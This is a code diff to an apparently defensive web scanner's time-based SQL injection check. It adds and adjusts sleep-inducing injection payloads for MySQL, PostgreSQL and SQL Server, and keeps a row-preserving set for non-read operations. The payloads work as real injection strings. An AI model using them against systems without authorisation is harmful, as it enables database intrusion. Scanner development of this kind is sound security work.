@@ -10,19 +10,30 @@ import { sqlInjection } from './sql-injection.ts'
 /** Tried for every row, and so where the operation reads alone. */
 const joinedByOr = (text: string, s: number): string => `${text}' OR (SELECT 1 FROM (SELECT SLEEP(${s}))x)='1`
 
+type Payload = readonly [engine: string, of: (text: string, seconds: number) => string]
+
 /** Each makes one family of databases sleep, from within a text or a number. */
-const payloads: readonly (readonly [engine: string, of: (text: string, seconds: number) => string])[] = [
+const payloads: readonly Payload[] = [
   ['MySQL', (text, s) => `${text}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
   ['MySQL', (text, s) => `${text} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
   ['MySQL', (text, s) => `${text}" AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
   ['MySQL', joinedByOr],
-  // what is inserted, or set, is a sum: no row is told by it, since nothing counts as a half
-  ['MySQL', (_, s) => `'+(SELECT 0.5 FROM (SELECT SLEEP(${s}))x)+'`],
+  // what is inserted, or set, is a sum; as a condition it meets no row, since nothing compares with NULL
+  ['MySQL', (_, s) => `'+(SELECT NULL FROM (SELECT SLEEP(${s}))x)+'`],
   ['PostgreSQL', (text, s) => `${text}'||(SELECT pg_sleep(${s}))||'`],
   ['PostgreSQL', (text, s) => `${text} AND (SELECT 1 FROM pg_sleep(${s}))=1`],
   ['PostgreSQL', (text, s) => `${text}' AND (SELECT 1 FROM pg_sleep(${s}))=1-- -`],
   ['SQL Server', (text, s) => `${text}'; WAITFOR DELAY '0:0:${s}'-- -`],
   ['SQL Server', (text, s) => `${text}; WAITFOR DELAY '0:0:${s}'-- -`],
+]
+
+/** The same that leave standing what comes behind the value, such as the condition that tells which rows are changed. */
+const whole: readonly Payload[] = [
+  ['MySQL', (text, s) => `${text}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))x) AND '1'='1`],
+  ['MySQL', (text, s) => `${text} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)`],
+  ['MySQL', (text, s) => `${text}" AND (SELECT 1 FROM (SELECT SLEEP(${s}))x) AND "1"="1`],
+  ['PostgreSQL', (text, s) => `${text}' AND (SELECT 1 FROM pg_sleep(${s}))=1 AND '1'='1`],
+  ...payloads.filter(([, of]) => of !== joinedByOr && !of('', 1).endsWith('-- -')),
 ]
 
 export const sqlTime: PointCheck = {
@@ -32,7 +43,8 @@ export const sqlTime: PointCheck = {
   async probe(point, operation, context) {
     if (isSettled(89, operation, point, context)) return null
     const mayWiden = operation.kind === 'read' && mayNameAccounts(operation, context)
-    for (const [engine, of] of payloads) {
+    const mayCutOff = operation.kind === 'read' || context.profile === 'DEEP'
+    for (const [engine, of] of mayCutOff ? payloads : whole) {
       if (of === joinedByOr && !mayWiden) continue
       const delayed = await waitsAsAsked((seconds) => of(textValue(point), seconds), point, operation, context)
       if (!delayed) continue
